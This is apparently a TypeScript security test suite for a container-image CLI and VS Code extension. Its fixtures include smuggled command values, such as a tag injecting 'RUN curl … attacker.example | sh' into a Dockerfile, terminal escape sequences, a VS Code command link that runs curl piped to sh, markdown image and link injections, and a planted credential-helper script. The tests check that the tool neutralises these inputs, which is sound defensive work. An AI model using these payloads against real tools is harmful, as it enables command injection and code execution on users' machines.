// Security review, second round: what security.test.ts, hostile.test.ts and split-hostile.test.ts
// did not cover. The attacker controls a registry (its names, its error bodies, its redirects),
// files another tool wrote into the cache, or a cloned repository (its Dockerfile, its files).
// Real Distribution registries; the loopback proxy in front of one where the registry itself
// cannot misbehave. test/e2e/security-review.test.ts shows the VS Code side in VS Code itself.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { access, mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { StowageError } from '../../src/core/errors';
import { parsePlatform } from '../../src/core/platform';
import { pull } from '../../src/core/pull/pull';
import { parseReference } from '../../src/core/reference';
import { RegistryClient, type RequestLog } from '../../src/core/registry/client';
import { code, escapeMarkdown } from '../../src/vscode/editor/markdown';
import { stageAt, stageHoverMarkdown } from '../../src/vscode/editor/stages';
import { errorText } from '../../src/vscode/workbench/failure';
import { CLI, requireCli, runCli } from '../support/cli';
import { putTinyImage, TestBed } from '../support/engine';
import { type BuiltImage, buildImage } from '../support/fixtures';
import { type RuleResult, startProxy } from '../support/proxy';
import { pushLayout } from '../support/push';
import type { RunningRegistry } from '../support/registry';

const amd64 = [parsePlatform('linux/amd64')];
/** What a terminal acts on: C0 controls but newline and tab, DEL, and the C1 controls (CSI is U+009B). */
const TERMINAL_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
/**
 * What VS Code's notifications turn into a link they open with commands allowed
 * (src/vs/base/common/linkedText.ts, rendered by notificationsViewer.ts with allowCommands: true).
 */
const VSCODE_NOTIFICATION_LINK =
  /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

let bed: TestBed;
let reg: RunningRegistry;
let image: BuiltImage;

before(async () => {
  requireCli();
  bed = await TestBed.create('stowage-security-review-');
  image = await buildImage(join(bed.work, 'img'), {
    tag: 'v1',
    seed: 'security-review',
    platforms: ['linux/amd64'],
    index: false,
    layers: 1,
    layerSize: 50_000,
  });
  reg = await bed.registry({});
  await pushLayout(image.layoutDir, 'v1', reg, 'rev/app:v1');
});

after(() => bed?.cleanup());

/** The real registry behind a proxy whose `rule` may answer or rewrite any request. */
async function proxied(rule: Parameters<typeof startProxy>[1]) {
  const proxy = await startProxy(reg.url, rule);
  bed.defer(proxy.stop);
  return proxy;
}

function cli(args: string[], cache: string) {
  return runCli([...args, '--cache', cache], 60_000, { DOCKER_CONFIG: join(bed.work, 'no-docker-config') });
}

/** The typed error `p` fails with. */
async function failure(p: Promise<unknown>): Promise<StowageError> {
  try {
    await p;
  } catch (e) {
    assert.ok(e instanceof StowageError, `typed: ${(e as Error)?.stack}`);
    return e;
  }
  assert.fail('expected a failure');
}

describe('names a registry lists', () => {
  const hostileTags = [
    'v1',
    // "Use in FROM" writes the picked tag into the Dockerfile: this would add an instruction.
    '1.0\nRUN curl -s https://attacker.example/x | sh',
    '\u001b]0;owned\u0007\u001b[2J',
    '../../v2/other/manifests/x',
    '-leading-dash',
    'a'.repeat(129),
    42,
    'ok_2.0-rc.1',
  ];
  const hostileRepositories = ['rev/app', 'x\nRUN id', 'UPPER/case', '../etc', 'ok/repo', 'a//b'];

  async function listing() {
    return proxied((req): RuleResult => {
      const path = new URL(req.url ?? '/', 'http://x').pathname;
      const json = (body: unknown): RuleResult => ({
        respond: { status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) },
      });
      if (path === '/v2/rev/app/tags/list') return json({ name: 'rev/app', tags: hostileTags });
      if (path === '/v2/_catalog') return json({ repositories: hostileRepositories });
      return undefined;
    });
  }

  test('tags and repositories no reference can hold are left out of the lists', async () => {
    const proxy = await listing();
    const client = new RegistryClient({ retry: { attempts: 1 } });
    const tags: string[] = [];
    for await (const page of client.tags(parseReference(`${proxy.host}/rev/app`))) tags.push(...page);
    const repositories: string[] = [];
    for await (const page of client.catalog(proxy.host)) repositories.push(...page);
    await client.close();
    assert.deepEqual(tags, ['v1', 'ok_2.0-rc.1']);
    assert.deepEqual(repositories, ['rev/app', 'ok/repo']);
  });

  test('stowage tags prints only those, and nothing a terminal would act on', async () => {
    const proxy = await listing();
    const r = await cli(['tags', `${proxy.host}/rev/app`], join(bed.work, 'tags-cache'));
    assert.equal(r.code, 0, r.stderr);
    assert.deepEqual(r.stdout.split('\n').filter(Boolean), ['v1', 'ok_2.0-rc.1']);
    assert.ok(!TERMINAL_CONTROL.test(r.stdout + r.stderr), JSON.stringify(r.stdout + r.stderr));
  });
});

describe("a registry's error text", () => {
  /** The real registry, with its manifest GETs answered 403 and this error body (a HEAD has none). */
  function refusing(body: unknown) {
    return proxied(
      (req): RuleResult =>
        req.method === 'GET' && /\/manifests\//.test(req.url ?? '')
          ? {
              respond: {
                status: 403,
                headers: { 'content-type': 'application/json' },
                body: JSON.stringify(body),
              },
            }
          : undefined,
    );
  }

  test('the CLI writes no control character of it to the terminal, and still says what it said', async () => {
    const proxy = await refusing({
      errors: [{ code: 'DENIED', message: '\u001b[2J\u001b]0;owned\u0007access \u009b31mdenied\r\n\u0000' }],
    });
    const cache = await mkdtemp(join(bed.work, 'cli-'));
    const r = await cli(['pull', `${proxy.host}/rev/app:v1`], cache);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /access.*denied/);
    assert.ok(!TERMINAL_CONTROL.test(r.stderr), JSON.stringify(r.stderr));
  });

  test('a huge error code is not repeated whole in the message', async () => {
    const proxy = await refusing({ errors: [{ code: 'X'.repeat(60_000), message: 'no' }] });
    const client = new RegistryClient({ retry: { attempts: 1 } });
    const e = await failure(
      pull(await bed.store(), client, `${proxy.host}/rev/app:v1`, { platforms: amd64 }),
    );
    await client.close();
    assert.equal(e.code, 'DENIED');
    assert.ok(e.detail.length < 1_000, `${e.detail.length} characters`);
  });

  test("shown in a VS Code notification, it does not become a link (they open commands: a terminal's sendSequence)", async () => {
    const link =
      'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20attacker.example%7Csh%5Cn%22%7D';
    const proxy = await refusing({
      errors: [
        { code: 'DENIED', message: `[Request access](${link}) or [read why](https://attacker.example/why)` },
      ],
    });
    const client = new RegistryClient({ retry: { attempts: 1 } });
    const e = await failure(
      pull(await bed.store(), client, `${proxy.host}/rev/app:v1`, { platforms: amd64 }),
    );
    await client.close();
    const text = errorText(e);
    assert.match(text, /Request access/, 'what the registry said is still shown');
    assert.deepEqual(text.match(VSCODE_NOTIFICATION_LINK), null, text);
  });
});

describe('names other tools wrote into the cache', () => {
  test('stowage ls, inspect and export write no control character of them to the terminal', async () => {
    const cache = await mkdtemp(join(bed.work, 'foreign-'));
    const store = await (await import('../../src/core/store')).Store.open(cache);
    const descriptor = await putTinyImage(store, {
      created: '2024-01-01T00:00:00Z\u001b]0;owned\u0007\u001b[2J',
    });
    // Stowage refuses to record such a name: another tool writes it into index.json.
    const name = 'evil\u001b[31m\u001b]0;owned\u0007\u009b2J';
    const indexPath = join(cache, 'index.json');
    const index = JSON.parse(await readFile(indexPath, 'utf8')) as { manifests: unknown[] };
    index.manifests.push({ ...descriptor, annotations: { 'org.opencontainers.image.ref.name': name } });
    await writeFile(indexPath, JSON.stringify(index));
    const ls = await cli(['ls'], cache);
    assert.equal(ls.code, 0, ls.stderr);
    assert.match(ls.stdout, /evil/);
    const inspect = await cli(['inspect', name], cache);
    assert.equal(inspect.code, 0, inspect.stderr);
    assert.match(inspect.stdout, /created/);
    // export's summary names the image: on stdout, or on stderr (JSON too) when the archive is stdout.
    const exported = await cli(['export', name, '-o', join(cache, 'out.tar')], cache);
    assert.equal(exported.code, 0, exported.stderr);
    assert.match(exported.stdout, /^evil.*@sha256:/m);
    const piped = await cli(['export', name, '-o', '-', '--json'], cache);
    assert.equal(piped.code, 0, piped.stderr);
    assert.equal((JSON.parse(piped.stderr) as { images: { name: string }[] }).images[0]?.name, name);
    for (const out of [ls.stdout, inspect.stdout, exported.stdout, piped.stderr])
      assert.ok(!TERMINAL_CONTROL.test(out), JSON.stringify(out));
  });
});

describe('HTTPS is not continued over plain HTTP', () => {
  test('a blob redirect from an HTTPS registry to http:// on a host not allowed plain HTTP is refused, unsent', async () => {
    // .invalid never resolves: a request there fails fast, so that one sent shows as a NETWORK error.
    const cdn = 'stowage-cdn.invalid';
    const tls = await bed.registry({ tls: true, redirectBaseUrl: `http://${cdn}/` });
    await pushLayout(image.layoutDir, 'v1', tls, 'rev/tls:v1');
    const attempt = async (insecureRegistries: string[]) => {
      const logs: RequestLog[] = [];
      const client = new RegistryClient({
        caCertificates: [tls.caPem!],
        insecureRegistries,
        retry: { attempts: 1 },
        onRequest: (r) => logs.push(r),
      });
      const e = await failure(
        pull(await bed.store(), client, `${tls.host}/rev/tls:v1`, { platforms: amd64, blobAttempts: 1 }),
      );
      await client.close();
      return { e, asked: logs.filter((l) => l.url.startsWith(`http://${cdn}`)).length };
    };
    const refused = await attempt([]);
    assert.equal(refused.e.code, 'INSECURE_REFUSED', refused.e.detail);
    assert.match(refused.e.detail, new RegExp(`${cdn}.*insecureRegistries`));
    assert.equal(refused.asked, 0, 'nothing was sent over plain HTTP');
    // Allowed plain HTTP, the same redirect is followed (then fails: the host does not exist).
    const allowed = await attempt([cdn]);
    assert.equal(allowed.e.code, 'NETWORK', allowed.e.detail);
    assert.ok(allowed.asked > 0, 'the allowed host was asked');
    // The host that failed is named, and that the registry sent the request there (it read
    // "Cannot reach https://127.0.0.1:… : no such host", the registry that had answered).
    assert.ok(allowed.e.message.startsWith(`Cannot reach http://${cdn} for blob sha256:`), allowed.e.message);
    assert.ok(allowed.e.message.includes(`where ${tls.host} redirected it`), allowed.e.message);
    assert.match(allowed.e.hint ?? '', new RegExp(`host it sends downloads to .*${cdn}`));
  });
});

describe('text in hovers and tooltips stays text', () => {
  // VS Code renders hovers with marked (this one comes with @vscode/vsce): the oracle here.
  const { marked } = require('marked') as typeof import('marked');
  const active = (html: string) => /<a\b|<img\b/i.test(html);
  const pull = 'command:stowage.pullImage?%5B%7B%22reference%22%3A%22attacker.example%2Fx%22%7D%5D';

  test("an image's label or a FROM's text in code is one code span, whatever its backticks and lines", () => {
    for (const text of [
      `x\`\` [Pull](${pull}) ![t](https://attacker.example/p.png) \`\``,
      `1.0\n\n[Pull](${pull})`,
      '`',
      '``',
      '` lead',
      'trail `',
      'a ``` b ` c',
    ]) {
      const [paragraph] = marked.lexer(`Label: ${code(text)}`) as {
        tokens?: { type: string; text: string }[];
      }[];
      const spans = paragraph?.tokens ?? [];
      assert.deepEqual(
        spans.map((t) => t.type),
        ['text', 'codespan'],
        JSON.stringify(text),
      );
      assert.equal(spans[1]!.text, text.replace(/\n+/g, ' '), JSON.stringify(text));
    }
  });

  test("a registry's platform names in a hover are text, not links", () => {
    const html = marked.parse(`Platforms: **${escapeMarkdown(`linux/[Pull](${pull})`)}** ✓`) as string;
    assert.ok(!active(html), html);
  });

  test("a stage hover over a hostile FROM (a cloned repository's, even untrusted) links nothing, loads nothing", () => {
    const dockerfile = 'FROM a``![t](https://attacker.example/p.png)``b AS s\nCOPY --from=s /x /x\n';
    const mention = stageAt(dockerfile, 1, 'COPY --from=s'.length - 1);
    assert.ok(mention, 'the stage is mentioned');
    const html = marked.parse(stageHoverMarkdown(mention)) as string;
    assert.match(html, /attacker\.example/, 'the FROM text is shown');
    assert.ok(!active(html), html);
  });
});

describe('credential helpers', () => {
  test('docker-credential-<credsStore> is never taken from the folder the CLI runs in (a cloned repository)', async () => {
    // Windows looks for a program in the current folder before PATH; so does any system whose PATH
    // has an empty entry (a trailing ':'), as here. The repository's "helper" must not run.
    const secured = await bed.registry({ auth: 'basic' });
    const root = await mkdtemp(join(bed.work, 'helper-'));
    const dockerConfig = join(root, 'docker');
    const repository = join(root, 'repository');
    const bin = join(root, 'bin');
    for (const dir of [dockerConfig, repository, bin]) await mkdir(dir);
    await writeFile(join(dockerConfig, 'config.json'), JSON.stringify({ credsStore: 'review' }));
    const ran = join(root, 'ran');
    const helper = `#!/bin/sh\necho "$(pwd)" >> '${ran}'\necho '{"ServerURL":"x","Username":"u","Secret":"s"}'\n`;
    await writeFile(join(repository, 'docker-credential-review'), helper, { mode: 0o755 });
    const pullFrom = (path: string) =>
      new Promise<{ code: number | null; stderr: string }>((resolve) => {
        const child = spawn(
          process.execPath,
          [CLI, 'pull', `${secured.host}/rev/app:v1`, '--cache', join(root, 'cache')],
          {
            cwd: repository,
            env: { ...process.env, DOCKER_CONFIG: dockerConfig, PATH: path },
            stdio: ['ignore', 'ignore', 'pipe'],
          },
        );
        let stderr = '';
        child.stderr.on('data', (d) => {
          stderr += d;
        });
        child.on('close', (code) => resolve({ code, stderr }));
      });
    const wasRun = () =>
      access(ran).then(
        () => true,
        () => false,
      );
    const r = await pullFrom(`${process.env.PATH}:`);
    assert.equal(r.code, 1, r.stderr);
    assert.equal(await wasRun(), false, "the repository's docker-credential-review ran");
    assert.match(r.stderr, /docker-credential-review/, 'the missing helper is named');
    // The same helper on PATH is run: the check above is not vacuous.
    await writeFile(join(bin, 'docker-credential-review'), helper, { mode: 0o755 });
    await pullFrom(`${bin}:${process.env.PATH}`);
    assert.equal(await wasRun(), true, 'the helper on PATH ran');
  });
});
